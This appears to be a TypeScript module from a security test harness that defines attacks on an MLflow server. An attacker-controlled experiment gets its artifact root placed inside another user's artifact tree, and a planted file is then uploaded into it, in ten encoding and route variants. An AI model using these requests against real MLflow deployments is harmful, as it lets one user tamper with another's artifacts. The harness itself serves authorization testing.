import type { Attack, AttackContext } from '../harness/attack.js';
import { randomHex, V2 } from '../harness/world.js';

/**
 * Class 7: an experiment of the attacker's own whose artifact root lies inside S's. Her runs then
 * upload into S's artifact tree, which the snapshot of S sees: through the UI's upload route (which
 * writes through a `file:` root directly) or by PUT to the run's served artifact path.
 */
const rootedIn = (name: string, location: (ctx: AttackContext) => string, shape: 'snake' | 'camel' | 'double' = 'snake', prefix = '/api'): Attack => ({
  name,
  class: '7 artifact location inside S',
  control: 'direct',
  async run(ctx) {
    const fields = { name: `m-rooted-${randomHex(4)}`, [shape === 'camel' ? 'artifactLocation' : 'artifact_location']: location(ctx) };
    const created = await ctx.attack('POST', `${prefix}/2.0/mlflow/experiments/create`, { body: shape === 'double' ? JSON.stringify(fields) : fields });
    const experimentId = created.json?.experiment_id as string | undefined;
    if (!experimentId) return;
    const run = await ctx.attack('POST', `${V2}/runs/create`, { body: { experiment_id: experimentId, start_time: Date.now() } });
    const runId = run.json?.run?.info?.run_id as string | undefined;
    if (!runId) return;
    await ctx.attack('POST', '/ajax-api/2.0/mlflow/upload-artifact', {
      query: { run_uuid: runId, path: 'planted.txt' },
      raw: 'planted by mallory',
      headers: { 'content-type': 'application/octet-stream' },
    });
    const served = /^mlflow-artifacts:\/(.*)$/.exec(run.json?.run?.info?.artifact_uri ?? '');
    if (served) await ctx.attack('PUT', `/api/2.0/mlflow-artifacts/artifacts/${served[1]}/planted.txt`, { raw: 'planted by mallory' });
  },
});

const served = (ctx: AttackContext) => `mlflow-artifacts:/${ctx.target.experimentId}`;
const onDisk = (ctx: AttackContext) => `${ctx.stack.mlflow.artifactsDir}/${ctx.target.experimentId}`;

export const artifactRootAttacks: Attack[] = [
  rootedIn('experiments/create artifact_location mlflow-artifacts:/<S>', served),
  rootedIn('experiments/create artifact_location mlflow-artifacts:/<S> (ajax-api)', served, 'snake', '/ajax-api'),
  rootedIn('experiments/create artifactLocation (camelCase) mlflow-artifacts:/<S>', served, 'camel'),
  rootedIn('experiments/create artifact_location mlflow-artifacts:/<S> (double-encoded body)', served, 'double'),
  rootedIn('experiments/create artifact_location file:// URI of S artifacts', (ctx) => `file://${onDisk(ctx)}`),
  rootedIn('experiments/create artifact_location bare path of S artifacts', onDisk),
  rootedIn('experiments/create artifactLocation (camelCase) file:// URI of S artifacts', (ctx) => `file://${onDisk(ctx)}`, 'camel'),
  rootedIn('experiments/create artifact_location file:// URI of S artifacts (double-encoded body)', (ctx) => `file://${onDisk(ctx)}`, 'double'),
  rootedIn('experiments/create artifact_location file:// URI of S artifacts (ajax-api)', (ctx) => `file://${onDisk(ctx)}`, 'snake', '/ajax-api'),
  rootedIn('experiments/create artifact_location mlflow-artifacts:/<S>/<run>/artifacts', (ctx) => `${served(ctx)}/${ctx.target.runId}/artifacts`),
];
